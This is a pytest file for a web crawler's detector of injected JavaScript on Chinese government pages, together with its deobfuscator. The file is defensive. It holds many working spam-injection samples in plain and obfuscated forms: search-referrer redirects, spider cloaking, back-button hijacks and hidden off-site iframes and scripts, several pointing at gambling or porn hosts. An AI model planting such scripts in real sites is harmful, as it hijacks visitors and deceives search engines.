"""Injected redirect/cloaking scripts are flagged; the scripts of clean government pages are not."""

import base64
import time

import pytest

from crawler.cleaning.scripts import MAX_OUTPUT, ScriptVerdict, deobfuscate, judge_script

HOST = "www.szwz.gov.cn"


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def percent(text: str) -> str:
    return "".join(f"%{ord(c):02x}" for c in text)


def eval_atob(code: str) -> str:
    return f'eval(atob("{b64(code)}"))'


def eval_unescape(code: str) -> str:
    return f'eval(unescape("{percent(code)}"))'


def eval_charcodes(code: str) -> str:
    return f"eval(String.fromCharCode({','.join(str(ord(c)) for c in code)}))"


PACKED = (
    "eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String))"
    "{while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];"
    "e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+"
    "'\\\\b','g'),k[c])}}return p}('0.1.2=\"3://4.5/\"',6,6,"
    "'window|location|href|http|evil|xyz'.split('|'),0,{}))"
)

MALICIOUS = [
    # plain referrer-gated redirect
    (
        'var r=document.referrer;if(/baidu|sogou|so.com|sm.cn/.test(r)){window.location.href="http://www.bc-888.xyz/";}',
        None,
        ScriptVerdict("referrer_redirect", "document.referrer tested for baidu; location -> http://www.bc-888.xyz/"),
    ),
    # referrer gate with the target in a variable and an indexOf test
    (
        'var u="https://sp.tyc88.top/?a=1";var f=document.referrer;if(f.indexOf("sogou")>0||f.indexOf("360")>0){top.location.replace(u)}',
        None,
        ScriptVerdict("referrer_redirect", "document.referrer tested for sogou; location -> https://sp.tyc88.top/?a=1"),
    ),
    # referrer gate that writes a full-screen iframe
    (
        'if(document.referrer.match(/google|bing|youdao/i)){document.write(\'<iframe src="https://a.b-c.cc/" style="position:fixed;width:100%;height:100%"></iframe>\')}',
        None,
        ScriptVerdict("referrer_redirect", "document.referrer tested for google; write -> https://a.b-c.cc/"),
    ),
    # referrer gate on a search-engine look-alike host, and a gated pop-up
    (
        'if(window.opener){ if(document.referrer.indexOf("baidu.com") != -1){ window.opener.location.href = "http://www.baidu.com.abc.robber.site/s?wd=x"; } }',
        None,
        ScriptVerdict("referrer_redirect", "document.referrer tested for baidu; location -> http://www.baidu.com.abc.robber.site/s?wd=x"),
    ),
    (
        'if(document.referrer.indexOf("baidu")>0){window.open("http://evil.xyz/")}',
        None,
        ScriptVerdict("referrer_redirect", "document.referrer tested for baidu; open -> http://evil.xyz/"),
    ),
    # User-Agent cloaking: spiders see the page, people are sent away
    (
        'if(/Baiduspider|Googlebot/i.test(navigator.userAgent)){}else{top.location="https://xx.bet365a.com/";}',
        None,
        ScriptVerdict("spider_cloaking", "userAgent tested for spider; location -> https://xx.bet365a.com/"),
    ),
    # User-Agent cloaking: spam links written for spiders only
    (
        'var ua=navigator.userAgent.toLowerCase();if(ua.indexOf("spider")>-1){document.write("<a href=\\"http://sex.xyz\\">x</a>")}',
        None,
        ScriptVerdict("spider_cloaking", "userAgent tested for spider; write -> http://sex.xyz"),
    ),
    # back-button hijack
    (
        '(function(){history.pushState({},"","#");window.addEventListener("popstate",function(){location.replace("https://tz.evil.top/")},false)})();',
        None,
        ScriptVerdict("history_hijack", "popstate handler after pushState; location -> https://tz.evil.top/"),
    ),
    # back-button hijack with the target in a variable
    (
        'var jumpUrl="http://evil.xyz/";history.pushState(null,null,location.href);window.onpopstate=function(){window.location.href=jumpUrl;};',
        None,
        ScriptVerdict("history_hijack", "popstate handler after pushState; location -> http://evil.xyz/"),
    ),
    # meta refresh written into the page
    (
        "document.write('<meta http-equiv=\"refresh\" content=\"0;url=http://evil.xyz/\">');",
        None,
        ScriptVerdict("offsite_write", "document.write <meta> from evil.xyz"),
    ),
    # off-site script written into the page
    (
        "document.write(\"<script src='https://random-domain.xyz/tj.js'></scr\"+\"ipt>\");",
        None,
        ScriptVerdict("offsite_write", "document.write <script> from random-domain.xyz"),
    ),
    # hidden off-site iframe written into the page
    (
        "document.write('<iframe src=\"http://a.b-c.cc/x\" width=\"0\" height=\"0\" frameborder=\"0\"></iframe>');",
        None,
        ScriptVerdict("offsite_write", "document.write <iframe> from a.b-c.cc"),
    ),
    # hidden off-site link block written into the page
    (
        "document.writeln('<div style=\"display:none\"><a style=\"display:none\" href=\"http://www.amxpj8.com/\">澳门赌场</a></div>');",
        None,
        ScriptVerdict("offsite_write", "document.write <a> from www.amxpj8.com"),
    ),
    # delayed redirect, absolute and protocol-relative targets
    (
        'setTimeout(function(){window.location.href="http://spam.example.org/";},3000);',
        None,
        ScriptVerdict("offsite_redirect", "redirect to http://spam.example.org/ (spam.example.org)"),
    ),
    (
        "setTimeout(\"location.href='//spam.example.org/p'\",100);",
        None,
        ScriptVerdict("offsite_redirect", "redirect to //spam.example.org/p (spam.example.org)"),
    ),
    # off-site script, as an attribute and injected at run time
    (None, "https://random-domain.xyz/tj.js", ScriptVerdict("offsite_script", "script src https://random-domain.xyz/tj.js (random-domain.xyz)")),
    (None, "//cdn.x7k2.xyz/c.js", ScriptVerdict("offsite_script", "script src //cdn.x7k2.xyz/c.js (cdn.x7k2.xyz)")),
    (
        'var s=document.createElement("script");s.src="https://js.tongji-x.cc/a.js";document.body.appendChild(s);',
        None,
        ScriptVerdict("offsite_script", "script loaded from https://js.tongji-x.cc/a.js (js.tongji-x.cc)"),
    ),
    # obfuscated: base64
    (
        eval_atob('if(document.referrer.indexOf("baidu")>-1){location.href="http://evil.xyz/"}'),
        None,
        ScriptVerdict("obfuscated_redirect", "decoded referrer_redirect: document.referrer tested for baidu; location -> http://evil.xyz/"),
    ),
    # obfuscated: unescape of %xx
    (
        eval_unescape('top.location.href="http://evil.xyz/a";'),
        None,
        ScriptVerdict("obfuscated_redirect", "decoded offsite_redirect: redirect to http://evil.xyz/a (evil.xyz)"),
    ),
    # obfuscated: fromCharCode list
    (
        eval_charcodes('window.location="http://evil.xyz/"'),
        None,
        ScriptVerdict("obfuscated_redirect", "decoded offsite_redirect: redirect to http://evil.xyz/ (evil.xyz)"),
    ),
    # obfuscated: \x escapes, including the property name
    (
        'var a="\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x65\\x76\\x69\\x6c\\x2e\\x78\\x79\\x7a";window["\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e"]=a;',
        None,
        ScriptVerdict("obfuscated_redirect", "decoded offsite_redirect: redirect to http://evil.xyz (evil.xyz)"),
    ),
    # obfuscated: string concatenation
    (
        'var u="ht"+"tp://ev"+"il.xyz/";if(document["ref"+"errer"].indexOf("bai"+"du")>=0){window["loc"+"ation"]["hr"+"ef"]=u}',
        None,
        ScriptVerdict("obfuscated_redirect", "decoded referrer_redirect: document.referrer tested for baidu; location -> http://evil.xyz/"),
    ),
    # obfuscated: array of strings
    (
        'var _0x=["\\x6C\\x6F\\x63\\x61\\x74\\x69\\x6F\\x6E","\\x68\\x72\\x65\\x66","http://evil.xyz/"];window[_0x[0]][_0x[1]]=_0x[2];',
        None,
        ScriptVerdict("obfuscated_redirect", "decoded offsite_redirect: redirect to http://evil.xyz/ (evil.xyz)"),
    ),
    # obfuscated: eval of a concatenated document.write of a tall iframe
    (
        '''var ss='<center><ifr'+'ame scrolling="no" frameborder="0" width="100%" height="5000" src="https://www.h5-xyz.com/"></iframe></center>';eval("do"+"cu"+"ment.wr"+"ite('"+ss+"');");''',
        None,
        ScriptVerdict("obfuscated_redirect", "decoded offsite_write: document.write <iframe> from www.h5-xyz.com"),
    ),
    # obfuscated: Dean Edwards packer
    (PACKED, None, ScriptVerdict("obfuscated_redirect", "decoded offsite_redirect: redirect to http://evil.xyz/ (evil.xyz)")),
    # obfuscated twice: base64 around %xx around a UA-cloaking redirect
    (
        eval_atob(eval_unescape('if(/spider/i.test(navigator.userAgent)){}else{location="http://evil.xyz/"}')),
        None,
        ScriptVerdict("obfuscated_redirect", "decoded spider_cloaking: userAgent tested for spider; location -> http://evil.xyz/"),
    ),
]


@pytest.mark.parametrize(("code", "src", "expected"), MALICIOUS)
def test_malicious_scripts(code, src, expected):
    assert judge_script(code, src, HOST) == expected


@pytest.mark.parametrize(("code", "src", "expected"), MALICIOUS)
def test_malicious_scripts_without_page_host(code, src, expected):
    assert judge_script(code, src, None) == expected


LEGITIMATE = {
    "jquery": '$(function(){ $(".nav li").hover(function(){ $(this).addClass("on"); }, function(){ $(this).removeClass("on"); }); });',
    "visit counter": "$.getJSON('/szinf/visit/count', {id: articleId}, function(d){ $('#hits').text(d.count); });",
    "print and close": "function doPrint(){ window.print(); } function closeWin(){ window.close(); }",
    "baidu analytics": 'var _hmt = _hmt || [];\n(function() {\n  var hm = document.createElement("script");\n  hm.src = "https://hm.baidu.com/hm.js?0123456789abcdef0123456789abcdef";\n  var s = document.getElementsByTagName("script")[0];\n  s.parentNode.insertBefore(hm, s);\n})();',
    "baidu push": "(function(){var bp=document.createElement('script');var curProtocol=window.location.protocol.split(':')[0];if(curProtocol==='https'){bp.src='https://zz.bdstatic.com/linksubmit/push.js';}else{bp.src='http://push.zhanzhang.baidu.com/push.js';}var s=document.getElementsByTagName(\"script\")[0];s.parentNode.insertBefore(bp,s);})();",
    "cnzz": "var cnzz_protocol = ((\"https:\" == document.location.protocol) ? \"https://\" : \"http://\");document.write(unescape(\"%3Cspan id='cnzz_stat_icon_1279999999'%3E%3C/span%3E%3Cscript src='\" + cnzz_protocol + \"s4.cnzz.com/z_stat.php%3Fid%3D1279999999%26show%3Dpic' type='text/javascript'%3E%3C/script%3E\"));",
    "51.la": '!function(p){var e=document,c="".concat("https:"===e.location.protocol?"https://":"http://","sdk.51.la/js-sdk-pro.min.js"),n=e.createElement("script");n.src=c;e.head.appendChild(n)}({id:"JgXXXXXX"});',
    "share to weibo": 'function shareWeibo(){ window.open("http://service.weibo.com/share/share.php?url="+encodeURIComponent(location.href)+"&title="+encodeURIComponent(document.title)); }',
    "share to douban": 'function shareDouban(){ window.open("https://www.douban.com/share/service?href="+encodeURIComponent(location.href)); }',
    "mobile redirect, relative": 'if (/Android|iPhone|iPad/i.test(navigator.userAgent)) { location.href = "/m/index.html"; }',
    "mobile redirect, m. site": 'if(/Android|webOS|iPhone|iPod|BlackBerry/i.test(navigator.userAgent)){window.location.href="http://m.szwz.gov.cn"+window.location.pathname;}',
    "redirect to another government site": 'location.href="http://www.suzhou.gov.cn/szsrmzf/index.shtml";',
    "static pager": "createPageHTML('page_div',3,1,'nav_list','shtml',41);",
    "hanweb jpage": "var param_212860={columnid:33718,unitid:'212860'}; $('#212860').jpage({totalRecord:4895,perPage:19,proxyUrl:'/module/web/jpage/dataproxy.jsp',groupSize:3,barPosition:'bottom',openCookies:false});",
    "same-site link and script": "document.write('<link rel=\"stylesheet\" href=\"/szwz/css/style.css\">');document.write('<script src=\"'+ctx+'/szwz/js/common.js\"></scr'+'ipt>');",
    "hanweb visit iframe": "document.write('<iframe src=\"/module/visitcount/visit.jsp?type=3&i_webid=1\" style=\"display:none\" width=\"0\" height=\"0\"></iframe>');",
    "traditional switcher": 'function toTraditional(){ StranBody(document.body); setCookie("zh_choose","t"); } var defaultEncoding=1;',
    "accessibility toolbar": "document.write('<script defer src=\"/wza/aria.js?appid=abc\"></scr'+'ipt>');$(\"#cniil_wza\").attr(\"href\",\"/AiWza/index.html#\"+window.location.pathname+location.search);",
    "font zoom": 'function doZoom(size){ document.getElementById("zoom").style.fontSize = size + "px"; } doZoom(16);',
    "jiasule challenge": "document.cookie=('_')+('_')+('j')+('s')+('l')+('_')+('c')+('l')+('e')+('a')+('r')+('a')+('n')+('c')+('e')+('_')+('s')+('=')+(-~[]+'')+'7'+'0';location.href=location.pathname+location.search",
    "frame buster with referrer test": 'try { if (top.location !== self.location && document.referrer.indexOf("baidu.com") < 0) { top.location.href = location.href; } } catch (e) {}',
    "search keyword highlight": 'var ref=document.referrer; if(ref.indexOf("baidu.com")>-1){ var c=document.getElementById("c"); c.innerHTML = hl(c.innerHTML, kw(ref)); }',
    "escaped chinese message": 'var msg="\\u6253\\u5370\\u672c\\u9875"; alert(msg);',
    "friendly-link select": "function go(sel){ if(sel.value){ window.open(sel.value); } }",
    "xhr": 'var x=new XMLHttpRequest(); x.open("GET","/api/list?page="+n,true); x.send();',
    "visible off-site link": "document.write('<a href=\"http://www.example.com/\" target=\"_blank\">友情链接</a>');",
    "packed same-site code": PACKED.replace("evil|xyz", "szwz|gov.cn"),
}


@pytest.mark.parametrize("name", sorted(LEGITIMATE))
def test_legitimate_scripts(name):
    assert judge_script(LEGITIMATE[name], None, HOST) is None
    assert judge_script(LEGITIMATE[name], None, None) is None


@pytest.mark.parametrize(
    ("src", "page_host"),
    [
        ("/szwz/js/jquery.min.js", HOST),
        ("js/hits.js", None),
        ("https://hm.baidu.com/hm.js?abc", HOST),
        ("//s4.cnzz.com/z_stat.php?id=1", None),
        ("https://szwz.gov.cn/b.js", HOST),
        ("https://cdn.bootcdn.net/ajax/libs/jquery/3.6.0/jquery.min.js", None),
        ("https://zfwzgl.www.gov.cn/exposure/jiucuo.js", HOST),
        ("http://static.example.com/site.js", "www.example.com"),
    ],
)
def test_legitimate_script_sources(src, page_host):
    assert judge_script("", src, page_host) is None


def test_relative_and_absolute_redirect_targets():
    assert judge_script('location.href="/m/index.html"', None, HOST) is None
    assert judge_script('location.href="evil.xyz"', None, HOST) is None  # a relative path
    assert judge_script('location.href="http://m.example.com/"', None, "www.example.com") is None
    assert judge_script('location.href="http://m.example.com/"', None, None) == ScriptVerdict(
        "offsite_redirect", "redirect to http://m.example.com/ (m.example.com)"
    )
    assert judge_script('location.href="//evil.xyz/"', None, HOST) == ScriptVerdict(
        "offsite_redirect", "redirect to //evil.xyz/ (evil.xyz)"
    )


def test_evidence_is_bounded():
    verdict = judge_script('location.href="http://evil.xyz/' + "a" * 500 + '"', None, HOST)
    assert verdict.reason == "offsite_redirect"
    assert len(verdict.evidence) == 200


def test_empty_inputs():
    assert judge_script(None, None, None) is None
    assert judge_script("", "", HOST) is None
    assert deobfuscate("") == ""


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ('eval(atob("bG9jYXRpb24uaHJlZj0iaHR0cDovL2V2aWwueHl6LyI7"))', 'location.href="http://evil.xyz/";'),
        (eval_unescape('top.location="http://evil.xyz"'), 'top.location="http://evil.xyz"'),
        ('var t=unescape("%u4E2D%u6587");', 'var t="中文";'),
        ('var u=decodeURIComponent("http%3A%2F%2Fevil.xyz%2F%E4%B8%AD");', 'var u="http://evil.xyz/中";'),
        ('var k="\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e";', 'var k="location";'),
        ('var k="\\u006c\\u006f\\u0063\\u{61}tion", q="\\x22";', 'var k="location", q="\\"";'),
        (eval_charcodes("location='//evil.xyz'"), "location='//evil.xyz'"),
        ("var s=String.fromCharCode(0x68, 0x69);var t=String.fromCharCode.apply(null,[104,105]);", 'var s="hi";var t="hi";'),
        ('var w="win"+"dow.loc"+\'ation\'; var n = "a" + b + "c";', 'var w="window.location"; var n = "a" + b + "c";'),
        (
            'var _0x=["location","href","http://evil.xyz/"];window[_0x[0]][_0x[1]]=_0x[2];',
            'var _0x=["location","href","http://evil.xyz/"];window.location.href="http://evil.xyz/";',
        ),
        (PACKED, 'window.location.href="http://evil.xyz/"'),
        ("new Function(\"top.location='http://evil.xyz'\")()", "top.location='http://evil.xyz'"),
        ("document['write']('x')", "document.write('x')"),
    ],
)
def test_deobfuscate_layers(code, expected):
    assert deobfuscate(code) == expected


def test_deobfuscate_nested_layers_one_per_round():
    nested = eval_atob(eval_unescape('document.write("<iframe>")'))
    assert deobfuscate(nested, max_depth=1) == eval_unescape('document.write("<iframe>")')
    assert deobfuscate(nested) == 'document.write("<iframe>")'
    assert deobfuscate(nested, max_depth=0) == nested


def test_deobfuscate_leaves_invalid_input_alone():
    code = 'atob("@@@not base64") + unescape("%zz%u12") + "\\x4" + "\\uZZZZ" + String.fromCharCode(99999999)'
    assert deobfuscate(code) == 'atob("@@@not base64") + "%zz%u12x4uZZZZ" + String.fromCharCode(99999999)'
    assert deobfuscate('"\\uD800" + "\\u{110000}"') == '"uD800u{110000}"'
    assert deobfuscate('x = "abc\\') == 'x = "abc\\'


def _timed(function, *args):
    start = time.perf_counter()
    result = function(*args)
    return result, time.perf_counter() - start


def test_hostile_base64_garbage_is_quick():
    garbage = ("QUJD!@#$" * 1_250_000)[:10_000_000]
    code = 'eval(atob("' + garbage + '"))'
    result, seconds = _timed(deobfuscate, code)
    assert result == code[:MAX_OUTPUT]
    assert judge_script(code, None, HOST) is None
    assert seconds < 2


def test_hostile_nesting_is_bounded():
    syntactic = "eval(atob(" * 50 + '"aGk="' + "))" * 50
    result, seconds = _timed(deobfuscate, syntactic)
    assert result == "eval(atob(" * 49 + "hi" + "))" * 49
    assert seconds < 1
    real = 'location.href="http://evil.xyz/"'
    for _ in range(25):
        real = eval_atob(real)
    result, seconds = _timed(deobfuscate, real)
    assert result.startswith('eval(atob("ZXZhbChhdG9i')
    assert len(result) < len(real)
    assert seconds < 1
    assert judge_script(real, None, HOST) is None  # deeper than the six layers judged


@pytest.mark.parametrize(
    "code",
    [
        '"' + '\\"' * 500_000,
        "'\"" * 300_000,
        'atob("' * 150_000,
        "eval(function(p,a,c,k,e,d)" * 38_000,
        "eval(function(p,a,c,k,e,d){}('" + "0 " * 300_000 + "',62,1,'" + "x" * 50_000 + "'.split('|'),0,{}))",
        'x=["' + "x" * 100_000 + '"];' + "x[0]+" * 100_000,
        "String.fromCharCode(" + "65," * 300_000 + "65)",
        "\\x41" * 250_000 + "\\u12\\x4",
        'unescape("' + "%u4e2d" * 150_000 + '")',
        "window.open(" * 80_000,
        'document.write("<script src=' * 30_000,
    ],
)
def test_hostile_inputs_are_quick_and_bounded(code):
    result, seconds = _timed(deobfuscate, code, 6)
    verdict, judge_seconds = _timed(judge_script, code, None, None)
    assert len(result) <= MAX_OUTPUT
    assert verdict is None
    assert seconds + judge_seconds < 3


def test_a_page_of_ordinary_scripts_is_judged_in_well_under_a_millisecond():
    block = '$(".tab li").click(function(){ var i=$(this).index(); $(this).addClass("cur").siblings().removeClass("cur"); });\n'
    names = ["visit counter", "static pager", "hanweb jpage", "font zoom", "traditional switcher",
             "jquery", "baidu analytics", "accessibility toolbar", "mobile redirect, relative", "print and close"]
    page = [LEGITIMATE[name] + "\n" + block * 15 for name in names]
    assert 18_000 < sum(map(len, page)) < 22_000
    best = min(_timed(lambda: [judge_script(code, None, HOST) for code in page])[1] for _ in range(20))
    assert best < 0.001


EVASIVE = [
    (  # markup written with innerHTML on a search-engine referrer
        "if(document.referrer.indexOf('baidu')>-1){document.body.innerHTML="
        "'<iframe src=\"http://www.ifr-spam.com/\" style=\"position:fixed;width:100%\"></iframe>';}",
        ScriptVerdict("referrer_redirect",
                      "document.referrer tested for baidu; html -> http://www.ifr-spam.com/"),
    ),
    (  # insertAdjacentHTML, ungated: an off-site iframe written into the page
        "document.body.insertAdjacentHTML('beforeend','<iframe src=\"//x.qk7z.com/a\" width=0 "
        "height=0></iframe>');",
        ScriptVerdict("offsite_write", "document.write <iframe> from x.qk7z.com"),
    ),
    (  # a created iframe pointed off-site on a search-engine referrer
        "var s=document.referrer;if(/baidu|sogou/.test(s)){var f=document.createElement('iframe');"
        "f.src='http://www.ce-spam.com/';document.documentElement.appendChild(f);}",
        ScriptVerdict("referrer_redirect",
                      "document.referrer tested for baidu; frame -> http://www.ce-spam.com/"),
    ),
    (  # the target spelled out as an array of characters
        "var p=['h','t','t','p',':','/','/','j','.','c','n'].join('');"
        "if(document.referrer.indexOf('baidu')>0){location.href=p;}",
        ScriptVerdict("referrer_redirect",
                      "document.referrer tested for baidu; location -> http://j.cn"),
    ),
    (  # the property name built by concatenation and kept in a variable
        "var k='loc'+'ation';if(document['refer'+'rer'].indexOf('so.com')>0)"
        "{window[k]['href']='http://www.idx-spam.com/';}",
        ScriptVerdict("obfuscated_redirect", "decoded referrer_redirect: document.referrer tested "
                      "for so.com; location -> http://www.idx-spam.com/"),
    ),
]


@pytest.mark.parametrize(("code", "expected"), EVASIVE)
def test_evasive_injections(code, expected):
    assert judge_script(code, None, HOST) == expected


@pytest.mark.parametrize("code", [
    # innerHTML and a created iframe with the page's own or no off-site target, near a referrer
    "var r=document.referrer;if(r.indexOf('baidu')>-1){document.getElementById('tip')"
    ".innerHTML='<b>欢迎从搜索引擎访问</b>';}",
    "var f=document.createElement('iframe');f.src='/szwz/map.html';document.body.appendChild(f);",
    "var names=['a','b'];var k='x';for(var i=0;i<names.length;i++){console.log(names[i]);}",
])
def test_ordinary_dom_updates(code):
    assert judge_script(code, None, HOST) is None


@pytest.mark.parametrize("src", [
    "https://jspassport.ssl.qhimg.com/11.0.1.js?d182b3f28525f2db83acfaaf6e696dba",
    "http://lib.sinaapp.com/js/jquery/1.9.1/jquery-1.9.1.min.js",
    "http://v3.jiathis.com/code/jia.js?uid=1350521",
    "https://www.some-ordinary-vendor.com/widget.js",  # unknown, but not machine-made
])
def test_script_sources_from_ordinary_hosts(src):
    assert judge_script(None, src, HOST) is None


def test_script_source_from_a_machine_made_host():
    assert judge_script(None, "http://www.8x9k2.com/js/tj.js", HOST) == ScriptVerdict(
        "offsite_script", "script src http://www.8x9k2.com/js/tj.js (www.8x9k2.com)")


def test_written_hidden_wrapper_with_spam_links():
    markup = ('<div style="position:absolute;left:-9999px"><a href="http://www.js8899.top/">澳门新葡京</a>'
              '<a href="http://www.js8899.top/b">真人百家乐</a></div>')
    verdict = judge_script(f"document.write({markup!r});", None, HOST)
    assert verdict == ScriptVerdict(
        "hidden_write", "document.write hidden <div> (hidden_links: 2 off-site links (www.js8899.top))")
    escaped = "".join(f"%{ord(c):02X}" if ord(c) < 256 else f"%u{ord(c):04X}" for c in markup)
    verdict = judge_script(f"document.write(unescape('{escaped}'));", None, HOST)
    assert verdict.reason == "obfuscated_redirect"
    assert verdict.evidence.startswith("decoded hidden_write: document.write hidden <div>")


def test_written_keyword_line():
    verdict = judge_script("document.write('<p>国产精品久久久久|日韩无码中文字幕|午夜福利</p>');", None, HOST)
    assert verdict == ScriptVerdict(
        "spam_write", "document.write keyword line 国产精品久久久久|日韩无码中文字幕|午夜福利")


@pytest.mark.parametrize("code", [
    "document.write('<div style=\"display:none\"><a href=\"/so?q=1\">网络游戏</a></div>');",
    "document.write('<p>欢迎访问苏州市吴中区人民政府网站</p>');",
    "document.write('<a href=\"http://www.js8899.top/\">下载附件</a>');",
])
def test_written_markup_without_spam(code):
    assert judge_script(code, None, HOST) is None
